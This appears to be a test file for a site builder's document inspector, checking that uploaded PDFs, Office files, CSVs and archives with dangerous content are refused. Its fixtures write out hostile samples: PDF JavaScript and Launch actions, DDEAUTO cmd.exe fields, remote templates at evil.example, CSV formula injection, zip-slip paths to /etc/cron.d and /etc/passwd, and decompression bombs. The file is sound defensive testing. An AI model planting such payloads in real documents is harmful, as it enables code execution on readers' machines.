// Documents that nobody should publish: each is made here, and refused by name.
import { randomBytes } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { inspectDocument } from '../../src/compiler/files/documents/inspect-document.ts';
import { type DocumentKind, documentKind } from '../../src/model/paths/documents.ts';
import {
  calendar,
  listed,
  office,
  type Packed,
  pdf,
  sound,
  stream,
  zip,
} from '../support/documents.ts';
import { check, type FileContent, type Files } from '../support/site.ts';

const HTML = '<!doctype html><html><script>alert(1)</script></html>';

/** Why a document is refused; undefined for one that is published. */
const refusal = (kind: DocumentKind, content: string | Buffer): string | undefined => {
  const seen = inspectDocument(Buffer.from(content), kind);
  return 'say' in seen ? seen.say : undefined;
};

/** The files with mistakes and their codes, of a site that links to the first one. */
const judged = (files: Readonly<Record<string, FileContent>>): Record<string, string> => {
  const names = Object.keys(files);
  const result = check({
    ...(Object.fromEntries(names.map((one) => [`content/files/${one}`, files[one]])) as Files),
    'content/pages/home.yaml': `title: Home\ndescription: A page.\nblocks:\n  - type: buttons\n    items:\n      - label: Get it\n        to: ${JSON.stringify(`files/${names[0]}`)}\n`,
  });
  const mistakes = result.diagnostics.filter(({ severity }) => severity === 'error');
  // Nothing is published where one document is refused.
  if (mistakes.length > 0) expect(result.output).toBeUndefined();
  return Object.fromEntries(
    mistakes.map(({ code, file, said }) => {
      const { reason } = (said?.params ?? {}) as { reason?: { say: string } };
      return [file.replace('content/files/', ''), reason ? `${code} ${reason.say}` : code];
    }),
  );
};

type Kind = 'docx' | 'xlsx' | 'pptx';
const docx = (name: string, content: Packed['content'] = '', kind: Kind = 'docx') =>
  office(kind, [{ name, content }]);
const inWord = (content: string) => docx('word/document.xml', content);
const rels = (relations: string) =>
  docx('word/_rels/document.xml.rels', `<Relationships>${relations}</Relationships>`);
const relation = (type: string, target: string) =>
  `<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`;
const external = (type: string, target: string) => rels(relation(type, target));
const objects = (...all: string[]) => pdf({ objects: all });
/** A PDF with a piece in it, a quarter of a million times. */
const around = (piece: string, trailer = ''): Buffer =>
  pdf({ objects: [piece.repeat(250_000)], trailer });
const big = Buffer.alloc(60_000_000);
const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');
const noise = randomBytes(1_000_000);
const many = <T>(count: number, make: (n: number) => T): T[] =>
  Array.from({ length: count }, (_, n) => make(n));
/** A document with another one in it. */
const within = (kind: Kind, inner: Kind, other: Buffer): Buffer =>
  docx(`word/embeddings/a.${inner}`, other, kind);
/** An extra field of Info-ZIP that says a name in UTF-8. */
const unicodeName = (name: string): Buffer => {
  const extra = Buffer.concat([
    Buffer.from('7570000001', 'hex'),
    Buffer.alloc(4),
    Buffer.from(name),
  ]);
  extra.writeUInt16LE(extra.length - 4, 2);
  return extra;
};
const inLatin = (name: string) => ({ name, raw: Buffer.from(name, 'latin1') });
const joined = (...parts: (string | Buffer)[]) =>
  Buffer.concat(parts.map((one) => Buffer.from(one as string)));
const inTable = (cell: string) =>
  `a,b\n${/[",;]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell},x\n`;

/** What a program for tables works out, and what it may run or ask with it. */
const FORMULAS = [
  ...['=HYPERLINK("https://example.org")', '+SUM(A1:A3)', '@SUM(1)', "-2+3+cmd|' /C calc'!A0"],
  ...['=A1', '+A1', '-B2*2', '--A1', '==A1', '=2+3', '="x"', '=Sheet2!A1', "+'[x.xls]S'!A1"],
  ...['+HYPERLINK ("https://x")', '@SUM (1)', '-NOW()', '=IF(1,2', '=DDE("cmd";"/C calc";"x")'],
  ...['＝1+1', '＝HYPERLINK("x")', '\t=1+1', '\r=A1', '\u00a0=A1', '\u200b=A1', '={1,2}'],
  ...["=MSEXCEL|'\\..\\cmd.exe /c calc'!''", '-foo(A1)', "+1 cmd|'/c x'!A", '+HIPERVINCULO ("x")'],
];
/** What looks like one, and is what people write. */
const TEXTS = [
  ...['+1 (555) 010-0199', '- two trays (veggie)', '+ 4 (borrowed)', '@led (public)', '====='],
  ...['=)', '- 7 PM | Info night', '- 7 PM | Info night!', '---', '@led2026', '-2+3'],
  ...['+1-555-010-0199', '+44 20 7946 0958', '- pizza (2)', '=> see below', '=== Fall ==='],
  ...['- B12 lab', '-12,50', '-3%', '- call (805) 555-0100', '+1 555-0100 x(4)'],
  ...['- ask Maya, then Bo (2)', '- "quoted"', '-7:30', '@maya @bo', '- e.g. A1'],
  ...['- half-time (20 min)', '- dues: $20 (fall)', '= see below', '-A4 paper'],
];
/** A Word file whose list of kinds names one. */
const kindsOf = (type: string) =>
  docx('[Content_Types].xml', `<Types><Override ContentType="${type}"/></Types>`);

type ByTitle = Readonly<Record<string, string | Buffer>>;

/** By the reason why each is refused. */
const REFUSED: Readonly<Record<string, Readonly<Partial<Record<DocumentKind, ByTitle>>>>> = {
  holdsPage: {
    pdf: {
      'HTML named .pdf': HTML,
      'HTML in the head of a PDF': `%PDF-1.7\n${HTML}\nstartxref\n9\n%%EOF`,
      'a page before a PDF': joined(`x ${HTML}`, pdf()),
    },
    csv: {
      'HTML behind blanks and a mark': `\ufeff\n\t ${HTML}`,
      'HTML in UTF-16 named .csv': utf16(HTML),
      'HTML in a cell': 'name,bio\nMaya,"<script>alert(1)</script>"\n',
    },
    ics: { 'a calendar that is a page': HTML },
    mp3: { 'a sound that is a page': HTML },
  },
  holdsDrawing: {
    pdf: { 'SVG named .pdf': '<svg xmlns="http://www.w3.org/2000/svg"/>' },
    csv: { 'XML named .csv': '<?xml version="1.0"?><svg/>' },
  },
  otherKind: {
    pdf: { 'a PDF behind something else': joined('MZ\0\0', pdf()) },
    docx: {
      'a Word file that is a table': office('xlsx'),
      'an archive named .docx': zip([{ name: 'a.txt', content: 'a' }]),
    },
    csv: { 'bytes named .csv': Buffer.from([0, 1, 2, 3, 0xff]) },
    ics: { 'a calendar of other bytes': 'BEGIN:VCARD\r\nEND:VCARD\r\n' },
    mp3: {
      'a page behind the tag of a sound': Buffer.from(
        `ID3\x03\0\0\0\0\0\x0a0123456789${HTML}`,
        'latin1',
      ),
      'a sound that ends in another file': joined(sound(3), 'PK\x03\x04 and so on'),
    },
  },
  beginsBefore: {
    pdf: {
      'a form that came with the PDF': joined(
        '------abc\r\nContent-Type: application/pdf\r\n\r\n',
        pdf(),
      ),
    },
    zip: { 'a program before an archive': joined('MZ', zip([{ name: 'a' }])) },
  },
  goesOn: {
    pdf: {
      'a PDF with an archive behind it': joined(pdf(), zip([{ name: 'a.txt' }])),
      'a PDF with an archive inside its end': joined(
        pdf(),
        zip([{ name: 'a.txt' }]),
        '\nstartxref\n9\n%%EOF',
      ),
    },
    zip: { 'something behind an archive': joined(zip([{ name: 'a' }]), 'more') },
  },
  cutOff: {
    pdf: { 'a PDF': pdf().subarray(0, 300) },
    zip: {
      'an archive': zip([{ name: 'a', content: 'abc' }]).subarray(0, 40),
      'an archive that says less than it unpacks': zip([
        { name: 'a.bin', content: big, saidSize: 10 },
      ]),
    },
    ics: { 'a calendar': calendar.slice(0, 30) },
  },
  emptyFile: { pdf: { 'nothing at all': '' } },
  encrypted: {
    pdf: {
      'a PDF with a password': pdf({ trailer: '/Encrypt 9 0 R' }),
      'a PDF with a password, its name in numbers': pdf({ trailer: '/#45ncr#79pt 9 0 R' }),
    },
    zip: { 'an archive with a password': zip([{ name: 'a.txt', flags: 1 }]) },
  },
  encryptedOrOld: {
    docx: {
      'a Word file with a password': joined(
        Buffer.from('d0cf11e0a1b11ae1', 'hex'),
        Buffer.alloc(600),
      ),
    },
  },
  // An action is one wherever it stands, and however its name is written.
  holdsScript: {
    pdf: {
      'in the catalog': pdf({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }),
      'in a list of objects': objects(listed({ 20: '<< /S /JavaScript /JS (x) >>' })),
      'with its name in numbers': pdf({ catalog: '/OpenAction << /S /J#61vaScr#69pt /JS (x) >>' }),
      'that starts a program': pdf({ catalog: '/OpenAction << /S /Launch /F (calc.exe) >>' }),
      'behind a link': objects('<< /Subtype /Link /A << /S /JavaScript /JS (x) >> >>'),
      'behind a bookmark': objects(
        '<< /Title (x) /A << /Type /Action /S /Launch /F (calc.exe) >> >>',
      ),
      'behind another action': objects(
        '<< /S /URI /URI (x) /Next [<< /S /JavaScript /JS 8 0 R >>] >>',
      ),
      'in a list of names': objects('<< /Names [(a) << /S /#4aavaScript /JS (x) >>] >>'),
      'of a field': objects('<< /FT /Tx /AA << /K << /S /SubmitForm /F (x) >> >> >>'),
      'of a page, in another object': objects('<< /AA 8 0 R >>', '<< /O 9 0 R >>'),
      'in pieces': objects('<< /S 8 0 R /JS 9 0 R >>', '/JavaScript'),
      'of a form with a program': objects('<< /XFA [(template) 8 0 R] >>'),
      'of a screen': objects('<< /Subtype /RichMedia >>'),
      'that opens an address by itself': objects(
        '<< /OpenAction << /S /URI /URI (https://x.org) >> >>',
      ),
      'behind one that stays in the document': objects(
        '<< /OpenAction << /S /GoTo /D [3 0 R] /Next [8 0 R] >> >>',
        '<< /S /URI /URI (https://x.org) >>',
      ),
      'of two kinds': objects(
        '<< /OpenAction 8 0 R >>',
        '<< /S /GoTo /S /URI /URI (https://x.org) >>',
      ),
      'of a kind that stands elsewhere': objects(
        '<< /OpenAction << /S 8 0 R /F (x) >> >>',
        '/SubmitForm',
      ),
      'of an article elsewhere': objects('<< /OpenAction << /S /Thread /F (//x/y.pdf) /D 0 >> >>'),
      'of a drawing in three dimensions': objects('<< /Type /3D /OnInstantiate 8 0 R >>'),
      'in a stream, where an offset may lead': objects(
        stream('\n9 0 obj << /S /JavaScript >>', ''),
      ),
      'behind a stream that says it is longer': objects(
        '<< /Length 40 >>\nstream\nendstream endobj 9 0 obj << /JS (x) >> endstream',
      ),
      'behind a comment': objects('<< /A %>>\n << /S /JavaScript >> >>'),
      'behind a word that is no key': objects('<< endobj /S /JavaScript >>'),
      'in a list without a type': objects(
        listed({ 20: '<< /JS (x) >>' }).replace('/Type /ObjStm', ''),
      ),
      'in a list that begins elsewhere': objects(
        stream('20 9 [ (ab) << /JS (x) >>', '/N 1 /First 5 /Type /ObjStm'),
      ),
      'in a list that says by a short key how it is packed': objects(
        listed({ 20: '<< /JS (x) >>' }).replace('/Filter', '/F'),
      ),
      'behind nothing but streams': around('>>stream\n', '/X << /S /JavaScript >>'),
    },
  },
  holdsFiles: {
    pdf: {
      'a PDF with another file in it': pdf({
        catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >>',
      }),
      'a file in a note': objects('<< /Subtype /FileAttachment >>'),
      'a file that belongs to a page': objects(
        '<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>',
      ),
      'a file under a name of DOS': objects(
        '<< /Type /Filespec /DOS (a.exe) /EF << /DOS 9 0 R >> >>',
      ),
    },
  },
  hidesParts: {
    pdf: {
      'a PDF that hides its list of objects': objects(
        stream('3c3c>', '/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]'),
      ),
      'a PDF whose list of objects never ends': objects(
        stream('0'.repeat(120_000_000), '/Type /ObjStm /N 1 /First 4', true),
      ),
      // Each of these would keep a reader busy for hours that looks at all of it for every part.
      'a PDF of nothing but lists': around('1 0 obj</ObjStm>>stream\n'),
      'a PDF that says a million times who made it': around('/Info 6 0 R 6 0 obj (a)'),
      'a PDF with descriptions that never end': around('<rdf:RDF><dc:creator>'),
    },
    docx: {
      'a part with words of its own': rels('<!DOCTYPE x [<!ENTITY a "External">]>'),
      'a part in UTF-16': docx('word/x.rels', utf16('<Relationships/>')),
      'documents in documents in documents': within(
        'docx',
        'xlsx',
        within('xlsx', 'pptx', within('pptx', 'docx', office('docx'))),
      ),
    },
  },
  holdsMacros: {
    docx: {
      'macros in a Word file': docx('word/vbaProject.bin'),
      'a file with macros under another name': kindsOf(
        'application/vnd.ms-word.document.macroEnabled.main+xml',
      ),
      'a kind of macros with letters as numbers': kindsOf(
        'application/vnd.ms-office.vbaPro&#106;ect',
      ),
      'macros in a document in a document': within('docx', 'docx', docx('word/vbaProject.bin')),
    },
    xlsx: { 'macros of Excel 4': docx('xl/macrosheets/sheet1.xml', '', 'xlsx') },
    zip: { 'a file with macros in an archive': zip([{ name: 'dues.xlsm' }]) },
  },
  loadsElsewhere: {
    docx: {
      'a template': external('attachedTemplate', 'https://evil.example/t.dotm'),
      'a template, its mode in numbers': rels(
        "<Relationship Type='http://x/attachedTemplate' Target='https://evil.example/' TargetMode='&#69;xternal'/>",
      ),
      'a template, with a prefix of many signs': rels(
        '<a-b:Relationship Type="/image" Target="http://evil.example" TargetMode="External"/>',
      ),
      'a template from a server of Windows': external(
        'attachedTemplate',
        'file:///%5C%5Cevil.example/t.dotm',
      ),
      'a photo': external('image', 'file:///C:/Users/maya/a.jpg'),
      'a photo, told among the photos': docx(
        'word/media/_rels/a.xml.rels',
        relation('image', 'https://evil.example/a.jpg'),
      ),
      ...Object.fromEntries(
        Object.entries({
          'in two fields':
            '<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd.exe</w:instrText>',
          'that is simple': '<w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe "/>',
          'in small letters': '<w:instrText>ddeauto c:\\\\cmd.exe</w:instrText>',
          'with letters as numbers': '<w:instrText>&#68;DE c</w:instrText>',
          'in pieces of text': '<w:instrText><![CDATA[DDE c]]></w:instrText>',
          'as a number in an attribute': "<w:fldSimple w:instr='&#x44;DE c'/>",
          'between quotes of others':
            '<w:fldSimple w:instr=\'A "\'/><w:fldSimple w:instr="DDE c"/><w:fldSimple w:instr=\'A "\'/>',
        }).map(([how, content]) => [`a field that asks another program, ${how}`, inWord(content)]),
      ),
      'a field with another prefix, in another folder': docx(
        'text/a.xml',
        '<x:instrText>DDE c</x:instrText>',
      ),
    },
    xlsx: {
      'a table that reads another one': docx(
        'xl/externalLinks/_rels/externalLink1.xml.rels',
        '<Relationships><Relationship Type="http://x/externalLinkPath" Target="file:///C:/dues.xlsx" TargetMode="External"/></Relationships>',
        'xlsx',
      ),
    },
  },
  holdsProgram: {
    docx: { 'a page in a Word file': docx('word/afchunk.htm', HTML) },
    zip: {
      'a page in an archive': zip([{ name: 'site/index.html', content: HTML }]),
      'a drawing in an archive': zip([{ name: 'logo.svg' }]),
      'a program in an archive': zip([{ name: 'setup.exe' }]),
      'a program under its second name': zip([{ name: 'a.txt', extra: unicodeName('a.exe') }]),
    },
  },
  holdsObject: {
    xlsx: { 'another program in a table': docx('xl/embeddings/oleObject1.bin', '', 'xlsx') },
  },
  unpacksManyfold: {
    docx: {
      'a part': office('docx', [{ name: 'word/document.xml', content: 'x', saidSize: 30_000_000 }]),
    },
    pptx: {
      'parts together': office(
        'pptx',
        many(3, (n) => ({ name: `ppt/slides/${n}.xml`, content: 'x', saidSize: 9_000_000 })),
      ),
    },
  },
  partTooLarge: {
    xlsx: {
      'a part': office('xlsx', [
        { name: 'xl/sharedStrings.xml', content: noise, saidSize: 65_000_000 },
      ]),
    },
  },
  unpacksTooFar: {
    zip: {
      'an archive': zip(many(4, (n) => ({ name: `${n}.bin`, content: big }))),
      'an archive whose files lie in one another': zip([
        { name: 'a', content: zip([{ name: 'b', content: 'x' }]), stored: true },
        { name: 'b', content: 'x', from: 31 },
      ]),
    },
  },
  tooManyFiles: {
    xlsx: {
      'too many parts': office(
        'xlsx',
        many(5_001, (n) => ({ name: `xl/worksheets/sheet${n}.xml` })),
      ),
    },
    zip: { 'too many files in an archive': zip(many(10_001, (n) => ({ name: `${n}` }))) },
  },
  tooManyRelations: {
    docx: { 'of a Word file': rels('<Relationship Id="r" Type="t" Target="x"/>'.repeat(50_001)) },
  },
  leadsOut: {
    zip: {
      'that leads out': zip([{ name: '../../etc/cron.d/x', content: 'x' }]),
      'from the root': zip([{ name: '/etc/passwd' }]),
      'of a drive': zip([{ name: 'C:x.txt' }]),
      'with backslashes': zip([{ name: '..\\..\\x.txt' }]),
      'of Windows that leads out': zip([inLatin('..\\a\xa4o.txt')]),
      'that leads out, as a second one': zip([{ name: 'a.txt', extra: unicodeName('../a.txt') }]),
      'with a sign that cannot be seen': zip([{ name: 'by\u200blaws.txt' }]),
      'with a joiner that joins nothing': zip([{ name: 'bylaws.\u200dtxt' }]),
      'that is said to be UTF-8 and is not': zip([{ ...inLatin('a\xa4o.txt'), flags: 0x800 }]),
      'that turns around': zip([{ name: 'bylaws\u202efdp.txt' }]),
    },
  },
  holdsLink: { zip: { 'of Unix': zip([{ name: 'a', content: '/etc/passwd', mode: 0o120777 }]) } },
  twoOfOneName: {
    zip: { 'but for capital letters': zip([{ name: 'a.txt' }, { name: 'A.TXT', content: 'b' }]) },
  },
  holdsFormula: {
    csv: {
      'a formula': "name,dues\nMaya,=cmd|' /C calc'!A0\n",
      'in quotes': 'name;dues\nMaya;"=HYPERLINK(""https://evil.example"")"\n',
      'with another sign': "a\n@SUM(1+1)*cmd|' /C calc'!A0\n",
      'with another separator': 'a;"b\n1;"x,=HYPERLINK(""https://evil.example"")"\n',
      'with a separator that the table says': 'sep=|\na|=A1+1\n',
      'behind blank lines': `a${'\n'.repeat(200_000)}=1`,
      ...Object.fromEntries(FORMULAS.map((cell) => [cell, inTable(cell)])),
    },
  },
};

describe.each(Object.entries(REFUSED))('refused as %s', (reason, kinds) => {
  describe.each(Object.entries(kinds))('%s', (kind, all) => {
    it.each(Object.entries(all))('%s', (_, content) => {
      expect(refusal(kind as DocumentKind, content)).toBe(reason);
    });
  });
});

describe('refused in a site', () => {
  it('each document by name, and none is published', () => {
    const bad = { 'a.zip': zip([{ name: '../x' }]), 'b.csv': inTable('+A1'), 'c.pdf': HTML };
    expect(judged({ ...bad, 'd.pdf': pdf(), 'e.csv': inTable('Vitamin +A1') })).toEqual({
      'a.zip': 'document/refused leadsOut',
      'b.csv': 'document/refused holdsFormula',
      'c.pdf': 'document/refused holdsPage',
    });
  });

  it('with what is wrong with a name in an archive', () => {
    const names = ['../x', '/x', 'C:x', 'a\\x', 'a\u202ex', 'a\u2066x', 'a\u0007x'];
    const { diagnostics } = check(
      Object.fromEntries(names.map((name, i) => [`content/files/${i}.zip`, zip([{ name }])])),
    );
    const reasons = diagnostics.filter(({ code }) => code === 'document/refused');
    expect(
      reasons.map(({ message }) => message.replace(/^.*it holds a file (.*) \(.*$/, '$1')),
    ).toEqual([
      'whose name leads out of its folder',
      'whose name begins with a slash',
      'whose name begins with a drive',
      'with a backslash in its name',
      'whose name reverses the direction of its text',
      'whose name reverses the direction of its text',
      'whose name has a character that cannot be seen or read',
    ]);
  });

  it('one byte too many, before it is read', () => {
    const most = Buffer.alloc(20_000_001, 'a');
    expect(judged({ 'a.csv': most, 'b.csv': most.subarray(1) })).toEqual({
      'a.csv': 'document/too-large',
    });
  });

  it('kinds that are not published', () => {
    const names = 'a.exe a.html a.svg a.docm a.doc a.js a.yaml a pdf'.split(' ');
    expect(judged(Object.fromEntries(names.map((name) => [name, 'x'])))).toEqual(
      Object.fromEntries(names.map((name) => [name, 'document/kind'])),
    );
  });

  it('names that are no part of an address, or deceive', () => {
    const names = ['by laws', 'año', 'by\u202elaws', 'by\u0007laws', 'a%2e', '-a'];
    const files = names.map((name) => `content/files/${name}.pdf`);
    const { diagnostics } = check(Object.fromEntries(files.map((file) => [file, pdf()])));
    const found = diagnostics.filter(({ code }) => code === 'document/name');
    expect(new Set(found.map(({ file }) => file))).toEqual(new Set(files));
  });

  it('links of the file system', () => {
    const codes = (link: string) =>
      check({ 'content/files/a.pdf': { link } }).diagnostics.map(({ code }) => code);
    expect(codes('/etc/passwd')).toContain('file/unreadable');
    expect(codes('../../site.yaml')).toContain('file/unreadable');
  });

  it('names that differ only in case', () => {
    const { diagnostics } = check({ 'content/files/a.pdf': pdf(), 'content/files/A.pdf': pdf() });
    expect(diagnostics.map(({ code }) => code)).toContain('file/same-name');
  });
});

describe('published', () => {
  const GOOD: ByTitle = {
    'a.pdf': pdf(),
    // Words are no names, wherever they stand.
    ...Object.fromEntries(
      Object.entries({
        link: ['<< /Subtype /Link /A << /S /URI /URI (https://x.org/Web/JavaScript) >> >>'],
        bookmark: ['<< /Title (CSS/JavaScript and /Launch \\(/AA\\)) >>'],
        words: [stream('BT (/S /JavaScript /EmbeddedFile /Encrypt) Tj ET', '')],
        hex: ['<< /Title <2f4a617661536372697074> >>'],
        comment: ['% /S /JavaScript\n<< /A 1 >>'],
        name: ['<< /AS /JavaScript /AP << /N << /JavaScript 8 0 R /Launch 8 0 R >> >> >>'],
        fonts: ['<< /Font << /AA 8 0 R /EF 5 0 R >> >>', '<< /Type /Font /F 1 >>'],
        page: ['<< /OpenAction [3 0 R /Fit] >>', '<< /OpenAction << /S /GoTo /D 8 0 R >> >>'],
      }).map(([where, all]) => [`${where}.pdf`, objects(...all)]),
    ),
    'title.pdf': pdf({ title: 'Kickoff/Launch 2026 /Encrypt 9 0 R' }),
    'bom.pdf': joined('\ufeff', pdf()),
    'blank.pdf': joined('\r\n \0', pdf()),
    'zeros.pdf': joined(pdf(), Buffer.alloc(8192)),
    'a.docx': external('hyperlink', 'https://example.com/'),
    'link.docx': inWord('<w:instrText>HYPERLINK "https://example.com/DDE-club"</w:instrText>'),
    'a.xlsx': office('xlsx'),
    // Read in one go, however often something begins.
    'b.docx': docx('word/x.rels', '<Relationship '.repeat(1_000_000)),
    'a.pptx': docx('ppt/media/image1.svg', '<svg/>', 'pptx'),
    'a.csv': 'name,dues,phone\n"Okafor, Maya",-5,+1 805 555 0100\n@led,"a ""b""",=)'.replace(
      '=)',
      ':)',
    ),
    'b.csv': Buffer.from('nombre\nJos\xe9\n', 'latin1'),
    'd.csv': Buffer.from('name,fee\nO\x92Neil,\x80 5\n', 'latin1'),
    ...Object.fromEntries(TEXTS.map((cell, i) => [`text-${i}.csv`, inTable(cell)])),
    'b.zip': zip([inLatin('Reglamento a\xa4o.txt'), inLatin('Informaci\xa2n.txt')]),
    'c.zip': zip([
      { name: 'a_o.txt', raw: Buffer.from('a_o.txt'), extra: unicodeName('año.txt') },
      { name: '👩‍💻 team.txt', flags: 0x800 },
      { name: 'می‌خواهم.txt', flags: 0x800 },
      { name: '🏴\u{e0067}\u{e0062}\u{e007f}.txt', flags: 0x800 },
      { name: '\u200fצילום.txt', flags: 0x800 },
      { name: '__MACOSX/._photo.jpg' },
      { name: 'Icon\r' },
      { name: 'photos/Thumbs.db' },
    ]),
    'c.docx': within('docx', 'xlsx', office('xlsx')),
    'd.docx': docx('customXml/item1.xml', utf16('<x xmlns="y">Maya</x>')),
    'c.csv': utf16('a\tb\r\n1\t2\r\n'),
    'a.zip': zip([{ name: 'photos/' }, { name: 'photos/a.jpg', content: 'x', stored: true }], 'Hi'),
    'a.ics': calendar,
    'a.mp3': sound(),
    'b.mp3': joined(sound(2, false), `TAG${' '.repeat(125)}`),
  };
  it.each(Object.entries(GOOD))('%s', (name, content) => {
    expect(refusal(documentKind(name) as DocumentKind, content)).toBeUndefined();
  });
});
